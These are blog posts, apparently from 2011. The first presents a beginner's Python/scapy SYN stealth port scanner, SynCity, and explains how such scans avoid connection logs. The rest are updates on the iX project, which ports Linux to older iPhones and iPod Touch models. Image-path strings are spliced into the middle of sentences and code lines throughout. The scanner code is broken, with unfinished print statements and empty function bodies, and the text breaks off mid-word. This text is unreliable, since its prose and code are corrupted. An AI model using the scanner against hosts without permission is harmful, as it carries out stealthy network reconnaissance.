A SYN Stealth scan makes use of the TCP three way handshake by sending a SYN packet and looking at the response. If SYN/ACK is sent back, the port is open and the remote (Host B) end is trying to open a TCP connection. The scanner then sends an RST to tear down the connection before it can beestablished fully; often preventing the connection attempt appearing in application or firewall logs.

SynCity - SYN Stealth Port Scanner

If anyone has any suggestions to improve my code, please let me know. Show mercy, this is my first time doing any sort of network programming.

#! /usr/bin/env python
#           SynCity by Lopi         #
#            Version 0.1            #
#           SYN Stealth Scan        #

# Libraries!
import sys
from scapy.allimport *

#conf.iface='eth0' # network interface to use
conf.verb=1 # enable verbose mode - Is this actually working?

# Prints title, version, contact info, etc.
def banner():
    title = "SynCity - SYN Stealth Port Scanner"
    version = "Version 0.1"
    contact = "chris[dot]spehn[at]gmail[dot]com"
    print '\n' +
    print '\n' +
    print '\n' +

# Displays how to enter SynCity
# TODO v0.2: Change to question based user input driven functionality
# For Example, ./
# What is your source ip address? What is your destination ip address? Which port would you like to scan?
def usage():
    print "\nSynCity: You can't enter SynCity using that syntax!"
    print "Usage: ./   "
    print "Example: ./ 22"

# Function to actually do the SYN Stealth sekrit stuffz#  SYN -->  SYN-ACK -->  RST
# result returns open or closed
# TODO v0.2: Send RST packet
# TODO v0.2: Add filtered state instead of analyzing the results manually
def single_scan():
    srcip = sys.argv[1]
    dstip = sys.argv[2] # target ip address
    port = sys.argv[3]
    ip = IP(src=srcip,dst=dstip)
    TCP_SYN = TCP(sport=RandShort(),dport=int(port),flags='S',seq=40)
    TCP_SYNACK = sr1(ip/TCP_SYN,timeout=1) # send packet and wait for the first reply
    if not TCP_SYNACK or TCP_SYNACK.getlayer(TCP).flags != 0x12: # SEQ Number for SYN-ACK
        print "\n"+str(port)+":closed\n" # response from our target aka hostip - expect RST
        print"\n"+str(port)+":open\n" # response from our target aka hostip - expect SYN-ACK
# TODO v0.2: Add functionality to allow scanning of multiple ports. Need a sane way to do this.
# What would we do without good ole main?
def main():
# Force user to enter SynCity properly
# TODO v0.2: Extend if statements to support scanning of multiple ports
if __name__ == '__main__':
    if len(sys.argv) > 4 or len(sys.argv) < 4:

#                                References                                #
#                     #
#  #

Scapy is an amazing tool, and I can't wait to learn more about it. I plan to continue improving SynCity as much as possible. Hopefully I'll get better atcoding too!

Friday, June 17, 2011

My Jedi Master: lilstevie

Hey all,

It has been a few weeks. This post is all about my jedi master, lilstevie. He's one of the founding members of Project iX and has contributed to the project from the start. We can't thank him enough for his contributions. Who knows where the project would be without him. I decided doing a community spotlight blog post would be a great way to thank him for his efforts. Unfortunately, lilstevie no longer has an iDevice to work on the project. However, he is doing some awesome work porting Ubuntu to various Android devices such as: Samsung Galaxy S, Samsung Galaxy Tab, Motorola Xoom. Take a look at his side by side picture of the Galaxy Tab and S running Ubuntu here.

Why am I calling littlestevie my "Jedi Master"? We are always collaborating on something, and he continually impresses me. If he needs help with Galaxy Linux or any other port target; I try to give him a helping hand and he does the same for me with Project iX. He's definitely more knowledgeable and experienced when it comes to porting Linux to arm devices. He typically doesn't need my help, but I do surprise myself at how much helpI can give him when he needs it. Most of you probably didn't know lilstevie is my right hand man and vice versa. This is why he's my Jedi Master. He has always been around helping silently not asking for any credit; he's always willing to share knowledge and teach me what he knows. lilstevie is always there to help the project, and I couldn't be more grateful.

Recently, lilstevie has been getting credit from Canonical for his work. They're sending him an Asus Transformer and I couldn't be more jealous. Yesterday, we spoke about how it would be a great port target. Today, Canonical emailed him stating they're going to give him one for free after he sent out a tweet for donations. Talk about support from the community! I couldn't be happier for him, and wanted to give him some well deserved attention. I would encourage all of you to follow his twitter accounts and check out his blog. I promise you will be impressed with his work.

Blog : GalaxyLinux Twitter : lilstevie's Twitter



Monday, May 30, 2011

iX SHR 1.10 Release

Hey everyone,

I promised a release was coming soon and it's finally here! It has been several months since my last release, but I promise I have been working hard. I hope everyone enjoys this release more than the last. This release supports the iPhone 3G and the IPT1G. However, it is possible to run iX on the iPhone2G. I'll start off by listing the changesin terms of hardware functionality.


1.) CPU
2.) USB
3.) NOR
4.) NAND
5.) LCD
6.) WLAN - Scans properly with interfaces file configured correctly.
7.) Audio - Speakers and headphones.
8.) GPU - Framebuffer only, no acceleration.9.) Touchscreen
10.) Backlight (Automatic backlight dimming only works on the iPhone3G)


1.) Baseband (Voice) - Work in progress (Texts and Phone calls).
2.) Accelerometer - Works, but requires restarting Xorg. Need to
implement rotation without restarting Xorg.
3.) Bluetooth
4.) Baseband (Data/3G)
5.) PMU - Partially implemented at the kernel level.
6.) Camera
7.) Multi-touch

There were quite a few cosmetic changes in this release. For example, I replaced the illume home screen launcher with a newer module called Elfe. iX also defaults to a lock screen when the backlight dims all the way. I mapped the hardware buttons as follows:• Power button: Power options (Shutdown, Restart, etc.)

  • Volume buttons: Turn volume up and down (No visuals, but it does work)

  • Home button: Close applications

Known issues:

  • IPT1G backlight does not dim automatically

  • IPT1G sound does not work without modifications

  • Cosmetic DPI scaling issue. This can be fixed by changing scaling in illume settings under the category "Look".

Overall, I feel this release is much better than my first one. Refer to this video to see it in action:

Release Mirrors:

MD5: bf9098dcc831881575893d2d77263761Please let me know if any of the mirrors go down. I'll be adding another mirror when the iDroid project admin, nickp666, gets a chance to upload the release to

For support, please visit and post in the support section for iX in the forums. Feel free to contact me on twitter as well. You can also get support on irc on the following server: channel: #iX

Thanks to (in no order of importance): iPhone dev team, planetbeing, nickp666, ricky26, CPICH, Bluerise, Neonkoala, ddominator, alex, kleemajo, Popple3, eggy, rekoil, James, iKex, GNUtoo, ALoGeNo, lilstevie, esto, ParkerR, krzie, biscuit, t1g3r, and anyone else that helped me. Sorry if I missed someone!

Follow the instructions in the read me. I hope everyone enjoys it!



Friday, May 27, 2011

Latest advancements with iX

Hey all,

It's me again. I wanted to detail all the latest advancements I have made in the past few months with iX. I want this to be a very visual post. You'll be seeing lots of screenshots that mostly came from the presentations I gave at my university. For those wondering, I go to Illinois State University. My major is Information Systems and I am in the Information Assurance & Security sequence. The presentations I gave were at the IT Awards Scholarship Ceremony and BIAC (Business Industry Advisory Council). I had to explain everything in layman's terms so they weren't technical presentations. This was definitely a big challenge for me, but allthe professors said I did a great job. You can find my presentation here.

Anyway, onto the good stuff! If you looked at my presentation then you're going to see some of the same images again. The biggest advancement with iX has been with the GUI. I'm still using Enlightenment with the infamous mobile friendly theme Illume featured in many OpenMoko distributions. A developer by the name of capitainigloo coded a home screen replacement for illume called elfe. He has several videos demonstrating it on youtube. If you're interested you can find the code here. With that being said, he deserves all the credit. I simply cross compiled it for my phone. He's doing great work and it's definitely a step in the right direction for a more mobile friendly GNU/Linux distribution, especially in terms of cosmetics. You can see pictures of elfe here.

Another advancement is I actually have the backlight working now. After an alloted amount of time, the backlight will turn off and default to a lock screen. Unfortunately, I don't have the resources to record a video right now. Screenshots will have to suffice for now. I'm still working on mapping the power button to the lock screen, but it's only a matter of time. Anyway, here's a screenshot of the lock screen. I apologize for the poor quality image.

I mentioned mapping the power button to the lock screen in the future. Right now the buttons are mapped as follows:

  • Power button: Power options

  • Volume buttons: Turn volume up and down• Home button: Close application

It's important to note that changing the volume with buttons is not displayed graphically, but they do work. I need to look into changing that, but there are more pressing issues. As far as hardware functionality goes, I'm almost on par with the iDroid project. All I have left to implement is the baseband. I don't want to embarrass myself so I'm not going to share what Ihave coded so far. Check my presentation for other screenshots to see the current state iX is in. I hope you all found this informative. Feedback is encouraged as always. Expect another release soon!



The Capabilities of OpeniBoot

Greetings all,

I'd like to start by apologizing for the lack of updates on the blog. I'm going to make a better effort to update the blog on a weekly basis. Procrastination usually gets the best of me even if I am actively working on iX. This post will primarily focus on the capabilities of OpeniBoot as the title suggests. I'm more or less going to show you what capabilities OpeniBoot brings to your device. Mainly focusing on my own device and explaining how I have my iPhone3G setup.

I have been using a development version of OpeniBoot. With this version of OpeniBoot, I can do a dual boot, tri boot, or even a quad boot. The iDroid developers made a grub style menu.lst file which allows you to setup as many boot entriesas you want. This menu.lst file must be in /boot/ in iOS. You can find my menu.lst here.

As you can probably tell from reading the file, I'm currently booting the follow operating systems: iOS, Android, Ubuntu, SHR, Mer. That's five different operating systems on a phone! The file systems may be emulated, but the operating systems are running natively. One downside to this OpeniBoot version is the fact that it's text based only at the moment. Eventually there will be support for theming. However, it's currently broken. When I start my phone, I get a text based list that looks like this.



Friday, February 4, 2011

The Future of iX

Hey all,

It has been a few weeks. Recently, I have been trying to decide the future of the iX project. I'm still undecided at this point, but here's what I have been pondering:

  1. Build a custom linux distribution from scratch

  2. Build a custom version of Ubuntu (custom window manager, software, etc.)

  3. Port Meego

I decided to research the three suggestions I was given from the iDroid/iX community. The first options offers an insane amount of customization. This will take the longest and the most work. However, I do not see a point in reinventing the wheel. GNU/Linux is GNU/Linux and that has hardly changed at all over the years. When choosing a Linux distribution, it all comes down to personal preference. It would be great to have our own repositories which can easily be doneon any distribution. Seems like a great option as we require lots of customization, but I am only one person. I would need some serious help here.

This leads us to Ubuntu, the most popular distribution in the world. They also have great arm support. Although, it is limited with the devices we currently support. We must use Karmic as it's the latest release that supports armv6 and older. The onlylg

